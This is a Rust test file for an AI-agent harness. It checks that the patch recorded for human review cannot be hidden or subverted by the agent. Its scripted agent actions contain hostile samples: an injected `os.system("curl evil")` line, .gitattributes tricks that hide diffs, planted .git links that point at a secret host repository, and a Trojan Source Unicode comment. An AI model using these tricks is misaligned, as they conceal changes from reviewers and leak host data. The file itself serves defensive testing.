//! What host git records follows git's rules and nothing the agent wrote: work-tree attributes
//! (`-diff`, `binary`, `eol`) change neither the review nor the staged bytes, and a `.git` the
//! agent planted anywhere (file, directory or symlink; hidden by `.ignore` or not) is never
//! followed: nothing about the repository it points at reaches the patch. A `.git` look-alike git
//! refuses (`.GIT`) is left out instead of failing the diff.

#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "support/repo.rs"]
mod support;

use serde_json::{Value, json};
use support::{Env, events, git, make_repo, script};

fn diff_event(evs: &[Value]) -> &Value {
    evs.iter()
        .find(|e| e["type"] == "Diff")
        .expect("a Diff event")
}

/// The `git` found first on `path`, when it is older than 2.40 (no `GIT_ATTR_SOURCE`).
fn old_git_path() -> Option<&'static str> {
    let path = "/usr/bin:/bin:/usr/sbin:/sbin";
    let out = std::process::Command::new("git")
        .arg("--version")
        .env("PATH", path)
        .output()
        .ok()?;
    let v = String::from_utf8_lossy(&out.stdout);
    let mut nums = v
        .trim()
        .trim_start_matches("git version ")
        .split('.')
        .map(|n| n.parse::<u32>().unwrap_or(0));
    let (major, minor) = (nums.next()?, nums.next()?);
    ((major, minor) < (2, 40)).then_some(path)
}

#[test]
fn agent_written_attributes_neither_hide_a_change_nor_convert_what_is_staged() {
    let mut paths = vec![None];
    match old_git_path() {
        Some(p) => paths.push(Some(p)),
        None => eprintln!(
            "NOTE: no git older than 2.40 on /usr/bin; the fallback is covered by the git unit tests"
        ),
    }
    for path in paths {
        let env = Env::new();
        let repo = make_repo(
            &env.path("src"),
            "main",
            &[
                ("src/app.py", "def main():\n    return 1\n"),
                ("README.md", "# r\n"),
            ],
        );
        let s = env.write(
            "script.json",
            &script(json!([
                {"tool_calls": [{"name": "bash", "input": {"command":
                    "printf 'app.py -diff\\n' > src/.gitattributes && \
                     printf '[attr]hide -diff -text\\n*.md hide\\n*.txt text eol=crlf\\n' > .gitattributes && \
                     sed -i 's/return 1/import os; os.system(\"curl evil\")\\n    return 1/' src/app.py && \
                     echo 'hidden too' >> README.md && printf 'a\\r\\nb\\r\\n' > crlf.txt"}}]},
                {"text": "Done."}
            ])),
        );
        let mut cmd = env.scripted_command(repo.to_str().unwrap(), "p", &s, &[]);
        if let Some(p) = path {
            cmd.env("PATH", p);
        }
        let out = cmd.output().unwrap();
        let ctx = format!("PATH {path:?}");
        assert_eq!(
            out.status.code(),
            Some(0),
            "{ctx}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let evs = events(&out.stdout);
        let diff = diff_event(&evs);
        let patch = diff["patch"].as_str().unwrap();
        assert!(
            patch.contains("+    import os; os.system(\"curl evil\")\n"),
            "{ctx}: the injected line is shown as text:\n{patch}"
        );
        assert!(patch.contains("+hidden too\n"), "{ctx}:\n{patch}");
        assert!(!patch.contains("GIT binary patch"), "{ctx}:\n{patch}");
        let app = diff["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == "src/app.py")
            .unwrap();
        assert_eq!(app["insertions"], 1, "{ctx}: {app}");
        assert!(app.get("binary").is_none_or(|b| b == false), "{ctx}: {app}");
        // Staged byte for byte: the CRLF file keeps its CRs despite `eol=crlf`/`text`.
        assert!(patch.contains("+a\r\n+b\r\n"), "{ctx}:\n{patch:?}");
    }
}

#[test]
fn a_planted_dot_git_is_never_followed_whatever_hides_it() {
    let env = Env::new();
    // A repository on the host the agent must learn nothing about.
    let host = make_repo(&env.path("host-secret"), "main", &[("s.txt", "secret\n")]);
    let host_head = git(&host, &["rev-parse", "HEAD"]).trim().to_string();
    let repo = make_repo(&env.path("src"), "main", &[("README.md", "# r\n")]);
    let host_git = host.join(".git");
    let cmd = format!(
        "mkdir -p vendor/x vendor/y/.git vendor/z deep/a/b && printf 'vendor/\\ndeep/\\n' > .ignore && \
         printf 'gitdir: {g}\\n' > vendor/x/.git && echo f > vendor/x/f.txt && \
         printf 'ref: refs/heads/main\\n' > vendor/y/.git/HEAD && mkdir -p vendor/y/.git/objects vendor/y/.git/refs && \
         ln -s {g} vendor/z/.git && printf 'gitdir: {g}\\n' > deep/a/b/.git && \
         mkdir -p odd/.GIT && echo x > odd/.GIT/HEAD && \
         echo kept >> README.md",
        g = host_git.display()
    );
    let s = env.write(
        "script.json",
        &script(json!([
            {"tool_calls": [{"name": "bash", "input": {"command": cmd}}]},
            {"text": "Done."}
        ])),
    );
    let out = env.run_scripted(&repo, "p", &s, &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !stdout.contains(&host_head),
        "the host repository's HEAD leaked"
    );
    assert!(!stdout.contains("Subproject commit"), "{stdout}");
    let evs = events(&out.stdout);
    let diff = diff_event(&evs);
    let patch = diff["patch"].as_str().unwrap();
    assert!(patch.contains("+kept"), "{patch}");
    assert!(
        patch.contains("b/.ignore"),
        "a plain file is recorded:\n{patch}"
    );
    assert!(
        !patch.contains("b/vendor/") && !patch.contains("b/deep/"),
        "{patch}"
    );
    let run = env.run_folders().pop().unwrap();
    let saved = std::fs::read(run.join("patch.diff")).unwrap();
    let saved = String::from_utf8_lossy(&saved);
    assert!(
        !saved.contains(&host_head) && !saved.contains("Subproject"),
        "{saved}"
    );
    let log = std::fs::read_to_string(run.join("events.jsonl")).unwrap();
    assert!(!log.contains(&host_head));

    // Each planted repository is listed as left out, with its reason.
    let left: Vec<(String, String)> = diff["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["left_out"].is_string())
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["left_out"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let want: Vec<(String, String)> = [
        ("deep/a/b", "nested_repository"),
        ("odd/.GIT", "reserved_name"),
        ("vendor/x", "nested_repository"),
        ("vendor/y", "nested_repository"),
        ("vendor/z", "nested_repository"),
    ]
    .iter()
    .map(|(p, r)| (p.to_string(), r.to_string()))
    .collect();
    assert_eq!(left, want, "{diff}");
    for f in diff["files"].as_array().unwrap() {
        assert!(f["warnings"].is_array(), "warnings always present: {f}");
    }
}

#[test]
fn the_diff_event_names_what_a_reviewer_must_not_miss() {
    let env = Env::new();
    let repo = make_repo(
        &env.path("src"),
        "main",
        &[("notes.txt", "one\ntwo\nthree\n"), ("plain.py", "x = 1\n")],
    );
    // U+202E (right-to-left override) and U+200B (zero-width space) in a new file, an LF file
    // turned CRLF, a `.gitattributes`, and an ordinary edit that must stay unwarned.
    let s = env.write(
        "script.json",
        &script(json!([
            {"tool_calls": [{"name": "write_file", "input": {"path": "access.js",
                "content": "/*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */\nvar token\u{200B} = 1;\n"}},
                {"name": "bash", "input": {"command":
                    "sed -i 's/$/\\r/' notes.txt && printf '*.js -diff\\n' > .gitattributes && \
                     echo 'y = 2' >> plain.py"}}]},
            {"text": "Done."}
        ])),
    );
    let out = env.run_scripted(&repo, "p", &s, &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let evs = events(&out.stdout);
    let files = diff_event(&evs)["files"].as_array().unwrap().clone();
    let warnings = |path: &str| -> Vec<String> {
        let f = files
            .iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("{path} in {files:?}"));
        f["warnings"]
            .as_array()
            .unwrap_or_else(|| panic!("warnings always present: {f}"))
            .iter()
            .map(|w| w.as_str().unwrap().to_string())
            .collect()
    };
    assert!(
        warnings("access.js").contains(&"hidden_unicode".to_string()),
        "{:?}",
        warnings("access.js")
    );
    assert!(
        warnings("notes.txt").contains(&"line_endings".to_string()),
        "{:?}",
        warnings("notes.txt")
    );
    assert!(
        warnings(".gitattributes").contains(&"git_control".to_string()),
        "{:?}",
        warnings(".gitattributes")
    );
    assert!(
        warnings("plain.py").is_empty(),
        "{:?}",
        warnings("plain.py")
    );
}
